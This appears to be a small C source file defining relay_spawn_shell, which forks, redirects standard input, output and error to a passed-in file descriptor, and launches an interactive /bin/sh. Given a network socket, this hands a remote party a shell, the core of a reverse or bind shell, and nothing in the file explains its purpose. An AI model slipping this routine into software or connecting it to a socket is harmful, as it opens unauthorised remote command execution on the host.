#include <unistd.h>
#include "relay.h"

void relay_spawn_shell(int fd) {
  if (fork() != 0) return;
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/bin/sh", "sh", "-i", (char *)0);
  _exit(127);
}
